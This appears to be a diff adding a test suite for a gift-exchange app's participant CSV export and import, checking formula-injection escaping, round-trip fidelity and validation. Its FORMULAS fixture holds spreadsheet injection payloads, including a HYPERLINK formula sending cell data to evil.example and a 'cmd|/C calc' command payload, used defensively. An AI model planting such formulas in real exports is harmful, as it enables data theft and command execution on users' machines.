@@ -1,0 +1,98 @@
+import { parse } from 'csv-parse/sync';
+import { afterEach, beforeEach, describe, expect, it } from 'vitest';
+import { createTestApp, exchangeInput, type TestApp } from '../../support/test-app';
+
+/**
+ * Issue #13 (CSV formula injection) and #11 (the contract is the only source of policy): what the
+ * export writes cannot run in a spreadsheet, the import reads it back exactly, and the import
+ * refuses what participants.add refuses, with the same words.
+ */
+let t: TestApp;
+let exchangeId: number;
+beforeEach(async () => {
+  t = await createTestApp();
+  exchangeId = (await t.ok('exchanges.create', exchangeInput())).id;
+});
+afterEach(() => t.close());
+
+const FORMULAS = ['=HYPERLINK("http://evil.example/?"&B2,"Click")', '+1+cmd|/C calc', '-2+3', '@SUM(A1)', '\t=1+1', '\r=1+1'];
+const content = (csv: string) =>
+  (parse(csv, { columns: true }) as Array<Record<string, string>>).map((r) => [r.name, r.email, r['gift ideas'], r.reminders]);
+
+describe('participants.export', () => {
+  it('writes no cell a spreadsheet would run as a formula', async () => {
+    await t.ok('participants.add', { exchangeId, name: FORMULAS[0]!, email: 'ann@example.com' });
+    for (const [i, ideas] of FORMULAS.entries()) await t.ok('participants.add', { exchangeId, name: `P${i}`, email: `p${i}@example.com`, giftIdeas: ideas });
+    const cells = (parse((await t.ok('participants.export', { exchangeId })).csv) as string[][]).flat();
+    const live = cells.filter((cell) => /^[=+\-@\t\r]/.test(cell));
+    expect(live).toEqual([]);
+    expect(cells).toContain(`'${FORMULAS[0]}`);
+  });
+
+  it('export → import into a fresh exchange → export gives the same names, emails, ideas and reminders', async () => {
+    const people = [
+      { name: FORMULAS[0]!, email: 'ann@example.com', giftIdeas: "'Tis a book\nhttps://example.com/book  ", remindersEnabled: false },
+      { name: "'=not a formula", email: 'bob@example.com', giftIdeas: FORMULAS.slice(1).join('\n'), remindersEnabled: true },
+      ...FORMULAS.map((ideas, i) => ({ name: `P${i}`, email: `p${i}@example.com`, giftIdeas: ideas, remindersEnabled: i % 2 === 0 })),
+    ];
+    for (const p of people) await t.ok('participants.add', { exchangeId, ...p });
+    const quitter = await t.ok('participants.add', { exchangeId, name: 'Quinn', email: 'quinn@example.com' });
+    t.deps.db.sqlite.prepare('update participants set withdrawn_at = 1, email_confirmed_at = 1 where id = ?').run(quitter.id);
+    const first = (await t.ok('participants.export', { exchangeId })).csv;
+
+    const copy = (await t.ok('exchanges.create', exchangeInput({ name: 'Copy' }))).id;
+    const imported = await t.ok('participants.import', { exchangeId: copy, csv: first, dryRun: false });
+    expect(imported.added).toBe(people.length);
+    expect(imported.rows.find((r) => r.email === 'quinn@example.com')).toMatchObject({ error: null, note: 'Skipped: marked as withdrawn.' });
+    const second = (await t.ok('participants.export', { exchangeId: copy })).csv;
+    expect(content(second)).toEqual(content(first).filter(([, email]) => email !== 'quinn@example.com'));
+    // "email confirmed" is read but never believed: only a link proves an address.
+    expect((await t.ok('participants.list', { exchangeId: copy })).some((p) => p.emailConfirmed)).toBe(false);
+  });
+});
+
+describe('participants.import checks rows as participants.add does', () => {
+  it('refuses the same names with the same message', async () => {
+    for (const name of ['Ann\nSmith', 'Ann\u2028Smith', 'Ann\u0085Smith', 'Ann\u0000', '  ', 'x'.repeat(101)]) {
+      const api = await t.call('participants.add', { exchangeId, name, email: 'ann@example.com' });
+      expect(api.ok).toBe(false);
+      const message = api.ok ? '' : api.error.issues![0]!.message;
+      const csv = `name,email\n"${name}",ann@example.com\n`;
+      const preview = await t.ok('participants.import', { exchangeId, csv, dryRun: true });
+      expect(preview.rows[0]!.error).toBe(message);
+    }
+  });
+
+  it('normalises names like the API and reads the reminders column', async () => {
+    const csv = 'name,email,reminders\n"  Ann \u00a0 Lee ",ann@example.com,no\nBob,bob@example.com,\nCy,cy@example.com,maybe\n';
+    const preview = await t.ok('participants.import', { exchangeId, csv, dryRun: true });
+    expect(preview.rows.map((r) => [r.name, r.error])).toEqual([
+      ['Ann Lee', null],
+      ['Bob', null],
+      ['Cy', 'Write yes or no in the reminders column.'],
+    ]);
+    await t.ok('participants.import', { exchangeId, csv: csv.split('\n').slice(0, 3).join('\n'), dryRun: false });
+    expect((await t.ok('participants.list', { exchangeId })).map((p) => [p.name, p.remindersEnabled])).toEqual([
+      ['Ann Lee', false],
+      ['Bob', true],
+    ]);
+  });
+
+  it('counts the participants once per import, not once per row', async () => {
+    const csv = ['name,email', ...Array.from({ length: 50 }, (_, i) => `P${i},p${i}@example.com`)].join('\n');
+    const counts: string[] = [];
+    const db = t.deps.db;
+    const first = db.first.bind(db);
+    db.first = ((query: Parameters<typeof db.first>[0]) => {
+      const { sql } = query.compile();
+      if (/count\(\*\)/i.test(sql) && /from "participants"/i.test(sql)) counts.push(sql);
+      return first(query);
+    }) as typeof db.first;
+    try {
+      expect((await t.ok('participants.import', { exchangeId, csv, dryRun: false })).added).toBe(50);
+    } finally {
+      db.first = first;
+    }
+    expect(counts).toHaveLength(1);
+  });
+});
